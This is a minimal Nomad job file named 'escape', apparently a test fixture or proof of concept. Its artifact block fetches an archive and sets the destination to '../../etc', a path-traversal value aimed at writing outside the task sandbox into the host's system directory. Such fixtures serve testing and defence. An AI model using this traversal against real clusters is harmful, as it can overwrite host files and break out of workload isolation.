job "escape" {
  group "g" {
    task "t" {
      driver = "raw_exec"

      artifact {
        source      = "https://example.com/x.tar.gz"
        destination = "../../etc"
      }

      config {
        command = "/bin/true"
      }
    }
  }
}
